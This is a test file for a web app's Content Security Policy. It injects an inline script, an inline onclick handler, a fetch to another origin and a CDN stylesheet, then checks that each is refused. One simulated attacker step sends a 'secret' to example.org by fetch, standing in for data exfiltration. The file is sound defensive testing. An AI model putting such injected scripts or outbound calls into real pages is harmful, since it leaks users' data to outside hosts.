import { open } from './support/page';
import { expect, test, type Page, type Watch } from './support/test';

/** Tries the steps of an attacker and returns those that the policy refused. */
async function plant(page: Page, seen: Watch, act: () => void): Promise<string[]> {
  await open(page, '/concepts/streaming');
  await page.evaluate(act);
  await expect.poll(() => seen.violations.length).toBeGreaterThan(0);
  expect(seen.messages.join('\n')).toContain(`policy: ${seen.violations[0]}`);
  return seen.violations.splice(0);
}

const hasRun = (page: Page) => page.evaluate(() => 'planted' in window);

test(
  'no script that is not named runs, no handler in markup, and nothing is sent to another origin',
  { tag: '@engine' },
  async ({ page, seen }) => {
    const script = await plant(page, seen, () => {
      const script = document.createElement('script');
      script.textContent = 'window.planted = true';
      document.body.append(script);
    });
    expect(script).toEqual([expect.stringMatching(/^script-src-elem refuses inline/)]);
    expect(await hasRun(page)).toBe(false);

    const handler = await plant(page, seen, () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.planted = true');
      button.click();
    });
    expect(handler).toEqual([expect.stringMatching(/^script-src-attr refuses inline/)]);
    expect(await hasRun(page)).toBe(false);

    const request = await plant(page, seen, () => {
      void fetch('https://example.org/?secret').catch(() => undefined);
    });
    expect(request).toEqual([expect.stringMatching(/^connect-src refuses https:\/\/example\.org/)]);
    expect(seen.foreign.filter((url) => url.includes('example.org'))).toEqual([]);
  },
);

test('a stylesheet of another origin is not asked for', async ({ page, seen }) => {
  const refused = await plant(page, seen, () => {
    const link = document.createElement('link');
    link.rel = 'stylesheet';
    link.href = 'https://cdn.jsdelivr.net/npm/other@1.0.0/a.css';
    document.head.append(link);
  });
  expect(refused).toEqual([expect.stringMatching(/^style-src-elem refuses https:\/\/cdn/)]);
});
